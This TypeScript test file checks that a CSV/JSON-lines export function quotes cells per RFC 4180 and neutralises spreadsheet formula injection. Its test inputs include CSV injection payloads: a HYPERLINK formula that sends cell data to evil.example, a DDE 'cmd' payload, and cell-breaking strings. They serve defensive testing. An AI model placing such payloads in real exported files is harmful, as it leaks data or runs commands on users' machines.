import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { exportHead, exportRow, type ExportColumn } from "../../src/lib/export-file.ts";
import { parseCsv } from "../support/parse-csv.ts";

const ONE: readonly ExportColumn<string>[] = [{ name: "a", value: (row) => row }];
const cell = (text: string) => exportRow("csv", ONE, text).slice(0, -2);

describe("a cell of CSV", () => {
  test.each([
    ["plain", "plain"],
    ["", ""],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["two\r\nlines", '"two\r\nlines"'],
    [" spaces ", '" spaces "'],
    ["semi;colon", "semi;colon"],
    ["Zoë \u{1F600} منى", "Zoë \u{1F600} منى"],
  ])("%j is written %j (RFC 4180)", (text, expected) => {
    expect(cell(text)).toBe(expected);
  });

  test.each([
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠1",
    "\ttext",
    "-",
    "+31612345678",
  ])("%j is no formula (OWASP, CSV injection)", (text) => {
    const [[written = ""] = []] = parseCsv(`${cell(text)}\r\n`);
    expect(written).toBe(`'${text}`);
  });

  test.each([['a"\r\n=1+1'], ['",=1+1,"'], ['"\r\n"=1+1']])("%j cannot begin another cell", (text) => {
    const rows = parseCsv(`${cell(text)}\r\n`);
    expect(rows).toEqual([[text]]);
  });

  test("numbers and flags of ours are no text, also below zero", () => {
    const columns: readonly ExportColumn<number>[] = [
      { name: "number", value: (row) => row },
      { name: "flag", value: (row) => row > 0 },
      { name: "none", value: () => null },
      { name: "list", value: () => ["a", "b"] },
    ];
    expect(exportRow("csv", columns, -5)).toBe("-5,false,,a b\r\n");
    expect(exportRow("jsonl", columns, -5)).toBe('{"number":-5,"flag":false,"list":["a","b"]}\n');
  });

  test("whatever the texts, a reader of RFC 4180 gets them again, and none begins like a formula", () => {
    const text = fc.oneof(fc.string({ unit: "binary" }), fc.stringMatching(/^[=+\-@"',\r\n \ta]{0,6}$/));
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 }), (table) => {
        const columns = [0, 1, 2].map((index): ExportColumn<readonly string[]> => ({ name: `c${index}`, value: (row) => row[index] }));
        const file = table.map((row) => exportRow("csv", columns, row)).join("");
        const read = parseCsv(file);
        expect(read.length).toBe(table.length);
        for (const [y, row] of read.entries()) {
          for (const [x, value] of row.entries()) {
            const original = table[y]![x]!;
            expect([original, `'${original}`]).toContain(value);
            expect(value).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
          }
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe("a file", () => {
  test("of CSV begins with a byte order mark and the names of its columns; of JSON lines with the first row", () => {
    expect(
      exportHead("csv", [
        { name: "a", value: () => "" },
        { name: "option.b", value: () => "" },
      ]),
    ).toBe("\ufeffa,option.b\r\n");
    expect(exportHead("jsonl", ONE)).toBe("");
  });

  test("of JSON lines has one object a line whatever the texts, and no byte order mark", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const line = exportRow("jsonl", ONE, text);
        expect(line.indexOf("\n")).toBe(line.length - 1);
        expect(JSON.parse(line)).toEqual({ a: text });
      }),
    );
  });
});
